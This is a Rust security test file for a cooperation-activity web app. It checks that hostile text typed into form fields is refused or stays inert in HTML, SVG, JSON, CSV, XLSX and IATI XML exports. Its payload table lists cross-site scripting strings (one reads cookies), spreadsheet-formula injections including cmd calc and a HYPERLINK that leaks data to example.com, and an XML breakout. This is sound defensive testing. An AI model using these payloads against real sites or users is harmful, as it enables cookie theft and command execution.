//! Hostile content: markup, scripts, `javascript:` addresses, spreadsheet formulas and
//! characters XML cannot carry, typed into every text field of the activity and organisation
//! forms. Each payload is either kept and then inert in every output that shows it (HTML and
//! its SVG charts, JSON, CSV, XLSX, IATI XML), or refused at the door with a problem at its
//! field and nothing written. Also: in-kind quantities beyond any real value, and query strings
//! that are huge or not UTF-8.

use std::io::Cursor;
use std::path::PathBuf;
use std::str::FromStr;
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use coopera_iati::read::{FileReader, Item, ReadOptions};
use coopera_store::ActivityFilter;
use rust_decimal::Decimal;

use super::*;

/// What the product must do with a payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Door {
    /// Stored as typed (the form trims it) and shown as text everywhere.
    Keep,
    /// Refused with 422 and a problem at the field: IATI XML cannot carry it.
    Refuse,
}

/// The payloads: a name for messages, the text typed, and what must happen to it.
const PAYLOADS: &[(&str, &str, Door)] = &[
    ("script", "<script>alert(1)</script>", Door::Keep),
    ("svg onload", "<svg onload=alert(1)>", Door::Keep),
    ("attribute breakout", "\"><img src=x onerror=alert(1)>", Door::Keep),
    ("single-quote breakout", "' autofocus onfocus='alert(1)", Door::Keep),
    ("javascript link", "javascript:alert(document.cookie)", Door::Keep),
    ("formula =", "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"ver\")", Door::Keep),
    ("formula +", "+1+cmd|' /C calc'!A0", Door::Keep),
    ("formula -", "-2+3", Door::Keep),
    ("formula @", "@SUM(1+1)*cmd|' /C calc'!A0", Door::Keep),
    ("tab then formula", "\t=1+1", Door::Keep),
    ("carriage return then formula", "\r=1+1", Door::Keep),
    ("quote and comma", "a\",\"=1+1", Door::Keep),
    ("XML breakout", "]]></narrative><narrative>injected</narrative>", Door::Keep),
    ("entities", "&amp; &lt;b&gt; &#x3C;", Door::Keep),
    ("right-to-left override", "abc\u{202E}fdp.exe", Door::Keep),
    ("U+FFFE", "a\u{FFFE}b", Door::Refuse),
    ("U+FFFF", "a\u{FFFF}b", Door::Refuse),
    ("NUL", "a\u{0}b", Door::Refuse),
    ("control character", "a\u{1}b", Door::Refuse),
    ("escape", "a\u{1B}[31mb", Door::Refuse),
];

/// Every free-text field of the activity form.
const ACTIVITY_FIELDS: &[&str] = &[
    "folio",
    "title.es",
    "title.en",
    "description.es",
    "description.en",
    "objectives.es",
    "objectives.en",
    "good_practice.es",
    "good_practice.en",
];

/// Every free-text field of the organisation form.
const ORGANISATION_FIELDS: &[&str] = &["name.es", "name.en", "acronym", "iati_ref"];

/// The app over a registry in a file (the demo data and sample rates), so that a second
/// connection can count what was written, and a second app can start on it as a restart would.
struct Site {
    _dir: tempfile::TempDir,
    db: PathBuf,
    app: Router,
}

impl Site {
    fn new() -> Site {
        let dir = tempfile::tempdir().expect("temp dir");
        let db = dir.path().join("coopera.db");
        let store = with_tester(Store::open(&db, StoreOptions::default()).expect("store"));
        store.record("demo", demo_records()).expect("demo stored");
        let rates = coopera_report::rates::parse_rates_csv(coopera_report::rates::SAMPLE_RATES_CSV, "rates.csv")
            .expect("sample rates");
        store.record_rates(&rates).expect("rates stored");
        drop(store);
        let app = Site::start(&db);
        Site { _dir: dir, db, app }
    }

    fn start(db: &std::path::Path) -> Router {
        coopera_web::app(AppState::open(db, Options::default()).expect("the app starts on the database"))
    }

    /// (activities, organisations, history rows) as the database holds them.
    fn counts(&self) -> (u64, usize, u64) {
        let store = Store::open(&self.db, StoreOptions::default()).expect("store");
        (
            store.count_activities(&ActivityFilter::default()).expect("count"),
            store.organisations().expect("organisations").len(),
            store.count_history().expect("history"),
        )
    }
}

/// A correct new activity, as the form posts it (organisations of the demo data).
fn activity_form(id: &str) -> Vec<(String, String)> {
    [
        ("id", id),
        ("reporting_org", "amexcid"),
        ("title.es", "Taller de gestión integral del riesgo"),
        ("title.en", "Integrated risk management workshop"),
        ("instrument", "action"),
        ("cooperation_type", "technical-scientific"),
        ("modality", "bilateral"),
        ("status", "2"),
        ("workflow", "published"),
        ("south_south", "on"),
        ("participants[0].org", "cenapred"),
        ("participants[0].role", "provider"),
        ("participants[1].org", "gt-conred"),
        ("participants[1].role", "recipient"),
        ("sectors[0].code", "74020"),
        ("sectors[0].percentage", "100"),
        ("countries[0].code", "GT"),
        ("countries[0].percentage", "100"),
        ("dates.planned_start", "2015-03-01"),
        ("dates.planned_end", "2015-03-05"),
        ("save", "1"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect()
}

/// A correct new foreign organisation, as the form posts it.
fn organisation_form(key: &str) -> Vec<(String, String)> {
    [
        ("key", key),
        ("name.es", "Secretaría de Planificación (prueba)"),
        ("kind", "10"),
        ("level", "foreign-government"),
        ("country", "GT"),
        ("save", "1"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect()
}

fn set(fields: &mut Vec<(String, String)>, name: &str, value: &str) {
    match fields.iter_mut().find(|(k, _)| k == name) {
        Some(f) => f.1 = value.to_owned(),
        None => fields.push((name.to_owned(), value.to_owned())),
    }
}

async fn post(app: &Router, uri: &str, fields: &[(String, String)]) -> Reply {
    let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    post_form(app, uri, &pairs).await
}

/// The stored value of a form field in a JSON document (`title.es` → `doc.title.es`).
fn at<'a>(doc: &'a Value, field: &str) -> &'a Value {
    field.split('.').fold(doc, |v, k| &v[k])
}

// ---------------------------------------------------------------------------------------------
// What "inert" means, per format

/// Decodes the character references of HTML text, so that what a page shows can be compared
/// with what was typed.
fn unescape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').filter(|e| *e <= 10);
        let decoded = end.and_then(|e| {
            let name = &rest[1..e];
            let c = match name {
                "lt" => Some('<'),
                "gt" => Some('>'),
                "amp" => Some('&'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                _ => match name.strip_prefix('#') {
                    Some(hex) if hex.starts_with(['x', 'X']) => u32::from_str_radix(&hex[1..], 16).ok(),
                    Some(dec) => dec.parse().ok(),
                    None => None,
                }
                .and_then(char::from_u32),
            };
            c.map(|c| (c, e))
        });
        match decoded {
            Some((c, e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The start tags of an HTML page: name and attributes (name lowercased, value as written).
fn start_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let bytes = html.as_bytes();
    let mut tags = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' || !bytes.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            i += 1;
            continue;
        }
        i += 1;
        let start = i;
        while i < bytes.len() && !bytes[i].is_ascii_whitespace() && bytes[i] != b'>' && bytes[i] != b'/' {
            i += 1;
        }
        let name = html[start..i].to_ascii_lowercase();
        let mut attributes = Vec::new();
        loop {
            while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
                i += 1;
            }
            if i >= bytes.len() || bytes[i] == b'>' {
                break;
            }
            let start = i;
            while i < bytes.len() && !bytes[i].is_ascii_whitespace() && !b"=>/".contains(&bytes[i]) {
                i += 1;
            }
            let attribute = html[start..i].to_ascii_lowercase();
            let mut value = String::new();
            if bytes.get(i) == Some(&b'=') {
                i += 1;
                match bytes.get(i) {
                    Some(&q @ (b'"' | b'\'')) => {
                        let end = html[i + 1..].find(q as char).map_or(bytes.len(), |e| i + 1 + e);
                        value = html[i + 1..end].to_owned();
                        i = end + 1;
                    }
                    _ => {
                        let start = i;
                        while i < bytes.len() && !bytes[i].is_ascii_whitespace() && bytes[i] != b'>' {
                            i += 1;
                        }
                        value = html[start..i].to_owned();
                    }
                }
            }
            attributes.push((attribute, value));
        }
        tags.push((name, attributes));
    }
    tags
}

/// What would make a page run or link what a user typed: an event-handler attribute, a script
/// that is not one of the application's files, a `javascript:` address, or the payload itself
/// as markup.
fn html_problems(page: &str, payload: &str) -> Vec<String> {
    let mut problems = Vec::new();
    for (tag, attributes) in start_tags(page) {
        for (name, value) in &attributes {
            if name.starts_with("on") {
                problems.push(format!("<{tag}> has an event handler {name}={value:?}"));
            }
            let address = unescape_html(value).trim().to_ascii_lowercase();
            let address: String = address.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            if ["href", "src", "action", "formaction", "xlink:href"].contains(&name.as_str())
                && address.starts_with("javascript:")
            {
                problems.push(format!("<{tag} {name}={value:?}> runs a script"));
            }
        }
        let src = attributes.iter().find(|(n, _)| n == "src").map(|(_, v)| v.as_str());
        if tag == "script" && !src.is_some_and(|s| s.starts_with("/assets/")) {
            problems.push(format!("a <script> that is not the application's: {attributes:?}"));
        }
        let own_image = tag == "img" && src.is_some_and(|s| s.starts_with("/assets/"));
        if ["iframe", "object", "embed", "img"].contains(&tag.as_str()) && !own_image {
            problems.push(format!("a <{tag}> element: {attributes:?}"));
        }
    }
    // Quotes are harmless in text; the tags above catch them breaking out of an attribute.
    if payload.contains('<') && page.contains(payload) {
        problems.push(format!("the payload {payload:?} is in the page unescaped"));
    }
    problems
}

/// The SVG drawings of a page.
fn svgs(page: &str) -> Vec<&str> {
    page.match_indices("<svg")
        .filter_map(|(at, _)| page[at..].find("</svg>").map(|end| &page[at..at + end + 6]))
        .collect()
}

/// A CSV file (RFC 4180) as rows of cells, read by the `csv` crate.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.into_records().map(|r| r.expect("CSV").iter().map(str::to_owned).collect()).collect()
}

/// A cell a spreadsheet would run as a formula (OWASP's CSV injection: a cell beginning with
/// `=`, `+`, `-`, `@`, tab or carriage return), unless it is a plain number.
fn formula_cell(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && Decimal::from_str(cell).is_err()
}

/// A cell as typed, once a leading `'` that neutralises it is taken off.
fn neutral(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

fn xml_char(c: char) -> bool {
    matches!(c, '\u{9}' | '\u{A}' | '\u{D}' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

/// The activities of an IATI file, read by the crate's own reader: (identifier, title in
/// Spanish, names of the organisations named).
fn read_iati(bytes: &[u8]) -> Result<Vec<(String, String, Vec<String>)>, String> {
    let reader = FileReader::from_reader(Box::new(Cursor::new(bytes.to_vec())), &ReadOptions::default())
        .map_err(|e| e.message(coopera_domain::Lang::En))?;
    let mut out = Vec::new();
    for item in reader {
        match item.map_err(|e| e.message(coopera_domain::Lang::En))? {
            Item::Activity { mapped, .. } => {
                let title = serde_json::to_value(&mapped.activity.title).unwrap_or_default();
                let title = title["es"].as_str().or(title.as_str()).unwrap_or_default().to_owned();
                let names = mapped
                    .organisations
                    .iter()
                    .flat_map(|o| match serde_json::to_value(&o.name).unwrap_or_default() {
                        Value::String(s) => vec![s],
                        Value::Object(m) => m.values().filter_map(|v| v.as_str().map(str::to_owned)).collect(),
                        _ => Vec::new(),
                    })
                    .collect();
                out.push((mapped.activity.id, title, names));
            }
            Item::Refused(w) => return Err(w.message(coopera_domain::Lang::En)),
        }
    }
    Ok(out)
}

/// The text of a page's `<main>`, tags taken out, in one short line (for messages).
fn page_text(html: &str) -> String {
    let body = html.find("<main").map_or(html, |at| &html[at..]);
    let body = body.find("</main>").map_or(body, |end| &body[..end]);
    let mut text = String::new();
    let mut in_tag = false;
    for c in body.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                text.push(' ');
            }
            c if !in_tag => text.push(c),
            _ => {}
        }
    }
    text.split_whitespace().collect::<Vec<_>>().join(" ").chars().take(300).collect()
}

/// The text cells and the formulas of every sheet of a workbook.
fn cells(bytes: &[u8]) -> (Vec<String>, Vec<String>) {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("an xlsx file");
    let mut strings = Vec::new();
    let mut formulas = Vec::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).expect("a sheet");
        strings.extend(range.used_cells().filter_map(|(_, _, d)| match d {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
        let f = book.worksheet_formula(&name).expect("the sheet's formulas");
        formulas.extend(f.used_cells().map(|(_, _, f)| f.clone()).filter(|f| !f.is_empty()));
    }
    (strings, formulas)
}

// ---------------------------------------------------------------------------------------------
// The payloads over every field

/// Runs `check` on each case of a table in turn, each on its own task, and gives the failures
/// together: one run shows the whole table.
async fn each<T, F, Fut>(site: &Arc<Site>, cases: &'static [T], check: F) -> Vec<String>
where
    T: Sync,
    F: Fn(Arc<Site>, usize, &'static T) -> Fut,
    Fut: Future<Output = ()> + Send + 'static,
{
    let mut failures = Vec::new();
    for (n, case) in cases.iter().enumerate() {
        if let Err(e) = tokio::spawn(check(Arc::clone(site), n, case)).await {
            let panic = e.try_into_panic().ok();
            let message = panic.as_ref().and_then(|p| {
                p.downcast_ref::<String>().cloned().or_else(|| p.downcast_ref::<&str>().map(|s| (*s).to_owned()))
            });
            failures.push(message.unwrap_or_else(|| format!("case {n}: the check did not finish")));
        }
    }
    failures
}

/// One payload: into every activity and organisation field, then through every output.
async fn check(site: Arc<Site>, n: usize, &(name, payload, door): &'static (&'static str, &'static str, Door)) {
    match door {
        Door::Refuse => check_refused(&site, n, name, payload).await,
        Door::Keep => check_kept(&site, n, name, payload).await,
    }
}

async fn check_refused(site: &Site, n: usize, name: &str, payload: &str) {
    let before = site.counts();
    let forms =
        ACTIVITY_FIELDS
            .iter()
            .enumerate()
            .map(|(f, field)| ("/activities/new", activity_form(&format!("XM-HOSTILE{n:02}-A{f:02}")), *field))
            .chain(ORGANISATION_FIELDS.iter().enumerate().map(|(f, field)| {
                ("/organisations/new", organisation_form(&format!("hostile-{n:02}-o{f:02}")), *field)
            }));
    for (uri, mut fields, field) in forms {
        set(&mut fields, field, payload);
        let r = post(&site.app, uri, &fields).await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name} in {field} ({uri}): XML cannot carry it, so the form must refuse it"
        );
        let html = r.text();
        let id = format!("id=\"f-{}\"", field.replace('.', "-"));
        let at = html.find(&id).unwrap_or_else(|| panic!("{name}: field {field} missing from the form"));
        let start = html[..at].rfind("<div class=\"field").expect("field start");
        let end = at + html[at..].find("</div>").expect("field end");
        assert!(
            html[start..end].contains("aria-invalid=\"true\""),
            "{name} in {field}: the problem is not shown at the field:\n{}",
            &html[start..end]
        );
        let problems = html_problems(&html, payload);
        assert!(problems.is_empty(), "{name} in {field}: the form shown again is not inert: {problems:?}");
        assert_eq!(site.counts(), before, "{name} in {field}: a refused form writes nothing");
    }
}

/// Saving is what costs (each save rebuilds the views), so a kept payload goes into every
/// field of one activity and of one organisation, which reports a second activity.
async fn check_kept(site: &Site, n: usize, name: &str, payload: &str) {
    let prefix = format!("XM-HOSTILE{n:02}");
    let kept = Kept {
        app: &site.app,
        name,
        payload,
        typed: payload.trim(),
        activity: format!("{prefix}-A"),
        reported: format!("{prefix}-O"),
        key: format!("hostile-{n:02}"),
        prefix,
    };
    kept.form_shown_again_keeps_it().await;
    kept.saved_as_typed().await;
    kept.pages_are_inert().await;
    kept.addresses_are_inert().await;
    kept.json_carries_it().await;
    kept.csv_does_not_run_it().await;
    kept.xlsx_holds_it_as_text().await;
    kept.iati_reads_it_back().await;
}

/// A payload that the forms keep, and the records it is saved in.
struct Kept<'a> {
    app: &'a Router,
    /// The payload's name, for the failures.
    name: &'a str,
    payload: &'a str,
    /// The payload as stored: the forms trim what is typed.
    typed: &'a str,
    /// The start of the identifiers of this payload's activities.
    prefix: String,
    /// The activity with the payload in every field.
    activity: String,
    /// The activity reported by `key`.
    reported: String,
    /// The organisation with the payload in every field.
    key: String,
}

impl Kept<'_> {
    /// The form shown again with a problem elsewhere keeps the payload, inert.
    async fn form_shown_again_keeps_it(&self) {
        let name = self.name;
        let mut again = activity_form(&format!("{}-X", self.prefix));
        for field in ACTIVITY_FIELDS {
            set(&mut again, field, self.payload);
        }
        set(&mut again, "sectors[0].code", "99999");
        let r = post(self.app, "/activities/new", &again).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: an unknown sector is refused");
        let html = r.text();
        assert!(unescape_html(&html).contains(self.typed), "{name}: the form shown again keeps what was typed");
        let problems = html_problems(&html, self.payload);
        assert!(problems.is_empty(), "{name}: the form shown again is not inert: {problems:?}");
    }

    /// Saved, and stored as typed in every field: the activity, the organisation, and the
    /// activity the organisation reports.
    async fn saved_as_typed(&self) {
        let (app, name, typed, key) = (self.app, self.name, self.typed, &self.key);
        let activity = &self.activity;
        let mut fields = activity_form(activity);
        for field in ACTIVITY_FIELDS {
            set(&mut fields, field, self.payload);
        }
        let r = post(app, "/activities/new", &fields).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{name} is an ordinary text: {}", page_text(&r.text()));
        let saved = get(app, &format!("/api/v1/activities/{activity}")).await.ok().json();
        for field in ACTIVITY_FIELDS {
            assert_eq!(at(&saved["document"], field), typed, "{name} in {field} is stored as typed");
        }
        let mut fields = organisation_form(key);
        for field in ORGANISATION_FIELDS {
            set(&mut fields, field, self.payload);
        }
        let r = post(app, "/organisations/new", &fields).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{name} in an organisation: {}", page_text(&r.text()));
        let saved = get(app, &format!("/api/v1/organisations/{key}")).await.ok().json();
        for field in ORGANISATION_FIELDS {
            assert_eq!(at(&saved["document"], field), typed, "{name} in organisation {field} is stored as typed");
        }
        let mut fields = activity_form(&self.reported);
        set(&mut fields, "reporting_org", key);
        set(&mut fields, "participants[1].org", key);
        let r = post(app, "/activities/new", &fields).await;
        assert_eq!(
            r.status,
            StatusCode::SEE_OTHER,
            "{name}: an activity of the organisation: {}",
            page_text(&r.text())
        );
    }

    /// HTML, and the SVG drawn in it; the edit forms show what was typed.
    async fn pages_are_inert(&self) {
        let (name, prefix, activity, reported, key) =
            (self.name, &self.prefix, &self.activity, &self.reported, &self.key);
        let pages = [
            "/".to_owned(),
            format!("/activities?q={prefix}"),
            format!("/activities?q={prefix}&lang=en"),
            "/organisations".to_owned(),
            "/organisations?lang=en".to_owned(),
            format!("/activities/{activity}"),
            format!("/activities/{activity}?lang=en"),
            format!("/activities/{activity}/edit"),
            format!("/activities/{reported}"),
            format!("/organisations/{key}"),
            format!("/organisations/{key}?lang=en"),
            format!("/organisations/{key}/edit"),
        ];
        let browser = sign_in(self.app, TESTER.0, TESTER.1).await;
        for uri in &pages {
            let page = get_as(self.app, &browser, uri).await.ok().text();
            let problems = html_problems(&page, self.payload);
            assert!(problems.is_empty(), "{name}: {uri} is not inert: {problems:?}");
            for svg in svgs(&page) {
                let problems = html_problems(svg, self.payload);
                assert!(problems.is_empty(), "{name}: an SVG chart of {uri} is not inert: {problems:?}");
            }
            if uri.ends_with("/edit") {
                assert!(unescape_html(&page).contains(self.typed), "{name}: {uri} shows what was typed");
            }
        }
    }

    /// What the address carries is shown again too: a search, a filter the page refuses, an
    /// identifier that does not exist.
    async fn addresses_are_inert(&self) {
        let name = self.name;
        let q = encode(self.payload);
        for uri in [
            format!("/activities?q={q}"),
            format!("/activities?year={q}"),
            format!("/?year={q}"),
            format!("/activities/{q}"),
            format!("/api/v1/activities?q={q}"),
            format!("/api/v1/activities?year={q}"),
            format!("/api/v1/activities/{q}"),
        ] {
            let r = get(self.app, &uri).await;
            assert!(!r.status.is_server_error(), "{name}: {uri} answers {}", r.status);
            if uri.starts_with("/api/") {
                assert!(serde_json::from_slice::<Value>(&r.bytes).is_ok(), "{name}: {uri} is not JSON: {}", r.text());
            } else {
                let problems = html_problems(&r.text(), self.payload);
                assert!(problems.is_empty(), "{name}: {uri} is not inert: {problems:?}");
            }
        }
    }

    /// JSON: valid, and the text as typed.
    async fn json_carries_it(&self) {
        let (app, name, typed) = (self.app, self.name, self.typed);
        let list = get(app, &format!("/api/v1/activities?q={}", self.prefix)).await.ok().json();
        assert_eq!(list["total"].as_u64(), Some(2), "{name}: {list}");
        let orgs = get(app, "/api/v1/organisations").await.ok().json();
        assert!(orgs["items"].as_array().is_some_and(|o| o.iter().any(|o| o["name"] == typed)), "{name}: {orgs}");
        let partners = get(app, "/api/v1/reports/partners").await.ok().json();
        assert!(partners.to_string().contains(&serde_json::to_string(typed).expect("json")), "{name}: partners report");
    }

    /// CSV: no cell a spreadsheet would run. The partners report lists every organisation;
    /// this payload's row is the one of its key.
    async fn csv_does_not_run_it(&self) {
        let name = self.name;
        for uri in [format!("/activities.csv?q={}", self.prefix), "/reports/partners.csv".to_owned()] {
            let rows = parse_csv(&get(self.app, &uri).await.ok().text());
            let rows: Vec<Vec<String>> = rows
                .into_iter()
                .enumerate()
                .filter(|(i, r)| *i == 0 || !uri.contains("partners") || r[0] == self.key)
                .map(|(_, r)| r)
                .collect();
            for cell in rows.iter().flatten() {
                assert!(!formula_cell(cell), "{name}: {uri} has a cell a spreadsheet runs: {cell:?}");
            }
            let shown = rows.iter().flatten().any(|c| neutral(c) == self.typed);
            assert!(shown, "{name}: {uri} shows what was typed (a title or an organisation's name)");
        }
    }

    /// XLSX: what was typed is a text cell, never part of a formula (the workbook's own
    /// totals are formulas).
    async fn xlsx_holds_it_as_text(&self) {
        let name = self.name;
        let body = self.typed.trim_start_matches(['=', '+', '-', '@']);
        for uri in [format!("/activities.xlsx?q={}", self.prefix), "/reports/partners.xlsx".to_owned()] {
            let (strings, formulas) = cells(&get(self.app, &uri).await.ok().bytes);
            let typed_formulas: Vec<&String> = formulas.iter().filter(|f| f.contains(body)).collect();
            assert!(typed_formulas.is_empty(), "{name}: {uri} makes what was typed a formula: {typed_formulas:?}");
            assert!(strings.iter().any(|s| neutral(s) == self.typed), "{name}: {uri} holds what was typed as text");
        }
    }

    /// IATI XML: only characters XML can carry, well formed, and the text read back as typed.
    async fn iati_reads_it_back(&self) {
        let (name, typed) = (self.name, self.typed);
        let xml = get(self.app, &format!("/activities.xml?q={}", self.prefix)).await.ok().bytes;
        let text = String::from_utf8(xml.clone()).expect("the export is UTF-8");
        let bad: std::collections::BTreeSet<char> = text.chars().filter(|c| !xml_char(*c)).collect();
        assert!(bad.is_empty(), "{name}: the IATI export holds characters XML cannot carry: {bad:?}");
        let read = read_iati(&xml).unwrap_or_else(|e| panic!("{name}: the IATI export does not read back: {e}"));
        let ids: Vec<&str> = read.iter().map(|(id, ..)| id.as_str()).collect();
        assert_eq!(ids.len(), 2, "{name}: both activities exported: {ids:?}");
        let title = read.iter().find(|(id, ..)| *id == self.activity).map(|(_, t, _)| t.as_str());
        assert_eq!(title, Some(typed), "{name}: the title reads back as typed");
        let named = read.iter().find(|(id, ..)| *id == self.reported).map(|(.., names)| names);
        assert!(
            named.is_some_and(|n| n.iter().any(|n| n == typed)),
            "{name}: the organisation's name reads back: {named:?}"
        );
    }
}

#[tokio::test]
async fn hostile_text_in_every_field_is_inert_everywhere_or_refused() {
    let failures = each(&Arc::new(Site::new()), PAYLOADS, check).await;
    assert!(failures.is_empty(), "{} of {} payloads:\n- {}", failures.len(), PAYLOADS.len(), failures.join("\n- "));
}

/// The checks above find what they look for: each snippet with the problems it must raise.
#[test]
fn the_checks_catch_what_they_look_for() {
    fn check(html: &str, payload: &str, expected: usize) {
        let found = html_problems(html, payload);
        assert_eq!(found.len(), expected, "{html}: {found:?}");
    }
    check("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<script>alert(1)</script>", 0);
    check("<p><script>alert(1)</script></p>", "<script>alert(1)</script>", 2);
    check("<script src=\"/assets/app.js\" defer></script>", "x", 0);
    check("<svg onload=alert(1)>", "x", 1);
    check("<input value=\"\"><img src=x onerror=alert(1)>\">", "x", 2);
    check("<input value='' autofocus onfocus='alert(1)'>", "x", 1);
    check("<a href=\"JavaScript:alert(1)\">x</a>", "x", 1);
    check("<a href=\" java&#x09;script:alert(1)\">x</a>", "x", 1);
    check("<a href=\"/activities?q=javascript:alert(1)\">javascript:alert(1)</a>", "x", 0);
    check("<img src=\"/assets/icon.svg\" alt=\"\">", "x", 0);

    for (cell, runs) in [("=1+1", true), ("+1+1", true), ("-2+3", true), ("@SUM(A1)", true), ("\t=1", true)] {
        assert_eq!(formula_cell(cell), runs, "{cell:?}");
    }
    for cell in ["'=1+1", "-12.5", "+1", "2015-03-01", "a=1", ""] {
        assert!(!formula_cell(cell), "{cell:?}");
    }
    assert_eq!(neutral("'=1+1"), "=1+1");
    assert_eq!(neutral("'hola"), "'hola");
    assert_eq!(parse_csv("a,\"b,\"\"c\"\"\"\r\n\"x\ny\",z\r\n"), [vec!["a", "b,\"c\""], vec!["x\ny", "z"]]);
    assert!(!"a\u{FFFE}b".chars().all(xml_char) && !"a\u{1}b".chars().all(xml_char));
    assert!("añ\u{202E}\u{1F600}\t".chars().all(xml_char));
    assert_eq!(unescape_html("&lt;b&gt; &amp;amp; &#39;&#x27; &nope; &"), "<b> &amp; '' &nope; &");
}

// ---------------------------------------------------------------------------------------------
// Quantities beyond any real value

const HUGE: &str = "100000000000000000000000000"; // 10^26

/// In-kind contributions: a name, the quantity and the unit value typed.
const QUANTITIES: &[(&str, &str, &str)] = &[
    ("10^26 expert days", HUGE, "3500"),
    ("a unit value of 10^26", "1", HUGE),
    ("10^26 days at 10^26 each", HUGE, HUGE),
    ("beyond a decimal", "1000000000000000000000000000000000000000", "3500"),
];

/// Either refused at the quantity or unit value with nothing written, or saved and then every
/// page and report that values it answers, also from a server started again on the registry.
async fn check_quantity(site: Arc<Site>, n: usize, &(name, quantity, unit_value): &'static (&str, &str, &str)) {
    let id = format!("XM-HUGE-{n:02}");
    let mut fields = activity_form(&id);
    for (k, v) in [
        ("in_kind[0].unit", "expert-days"),
        ("in_kind[0].quantity", quantity),
        ("in_kind[0].unit_value", unit_value),
        ("in_kind[0].currency", "MXN"),
    ] {
        set(&mut fields, k, v);
    }
    let before = site.counts();
    let r = post(&site.app, "/activities/new", &fields).await;
    match r.status {
        StatusCode::UNPROCESSABLE_ENTITY => {
            let html = r.text();
            let located = ["f-in_kind-0-quantity", "f-in_kind-0-unit_value"].iter().any(|id| {
                html.find(&format!("id=\"{id}\"")).is_some_and(|at| {
                    let start = html[..at].rfind("<div class=\"field").unwrap_or(0);
                    let end = at + html[at..].find("</div>").unwrap_or(0);
                    html[start..end].contains("aria-invalid=\"true\"")
                })
            });
            assert!(located, "{name}: refused, but not at the quantity or the unit value");
            assert_eq!(site.counts(), before, "{name}: a refused form writes nothing");
        }
        StatusCode::SEE_OTHER => {
            for uri in [
                "/".to_owned(),
                "/?show=total:MXN".to_owned(),
                "/?show=in-kind:USD".to_owned(),
                format!("/activities/{id}"),
                "/api/v1/reports/directions?measure=total&currency=MXN".to_owned(),
                "/api/v1/reports/themes?measure=in-kind&currency=USD".to_owned(),
                "/reports/directions.csv?measure=total&currency=MXN".to_owned(),
                "/reports/dashboard.xlsx?show=total:USD".to_owned(),
            ] {
                let r = get(&site.app, &uri).await;
                assert_eq!(r.status, StatusCode::OK, "{name}: {uri} after saving it: {}", page_text(&r.text()));
            }
            // A server started again on this registry (the views are built anew).
            let restarted = Site::start(&site.db);
            let r = get(&restarted, "/?show=total:MXN").await;
            assert_eq!(
                r.status,
                StatusCode::OK,
                "{name}: the dashboard of a restarted server: {}",
                page_text(&r.text())
            );
        }
        other => {
            let stored = site.counts() != before;
            let db = site.db.clone();
            let restart = std::panic::catch_unwind(move || AppState::open(&db, Options::default()).map(|_| ()));
            let restart = match restart {
                Ok(Ok(())) => "starts".to_owned(),
                Ok(Err(e)) => format!("does not start: {e}"),
                Err(_) => "panics".to_owned(),
            };
            panic!(
                "{name}: a form answers 303 or 422, not {other} ({}); the activity was stored: {stored}; \
                 a server started again on the registry {restart}",
                page_text(&r.text())
            );
        }
    }
}

#[tokio::test]
async fn huge_in_kind_quantities_are_refused_or_reported_without_failing() {
    let failures = each(&Arc::new(Site::new()), QUANTITIES, check_quantity).await;
    assert!(failures.is_empty(), "{} of {} quantities:\n- {}", failures.len(), QUANTITIES.len(), failures.join("\n- "));
}

// ---------------------------------------------------------------------------------------------
// Query strings

/// The longest query the `http` crate lets a request carry in-process (a URI is at most
/// 65,534 bytes); the real server's limit is checked by the binary's tests.
const LONG_QUERY: usize = 65_000;

#[tokio::test]
async fn huge_and_invalid_queries_are_client_errors() {
    let app = app();
    let long = format!("q={}", "a".repeat(LONG_QUERY));
    let queries = [
        ("a query of 65,000 bytes", long.as_str()),
        ("invalid UTF-8 in a search", "q=%FF%FE"),
        ("invalid UTF-8 in a filter", "year=%FF%FE"),
        ("invalid UTF-8 in a parameter name", "%FF%FE=1"),
        ("a lone surrogate", "q=%ED%A0%80"),
    ];
    let mut failures = Vec::new();
    for path in ["/", "/activities", "/api/v1/activities", "/api/v1/reports/themes"] {
        for (name, query) in queries {
            let r = get(&app, &format!("{path}?{query}")).await;
            if !r.status.is_client_error() {
                let text: String = page_text(&r.text()).chars().take(80).collect();
                failures.push(format!("{name} on {path}: {} ({text}…)", r.status));
            }
        }
    }
    assert!(failures.is_empty(), "expected a 4xx:\n- {}", failures.join("\n- "));
}
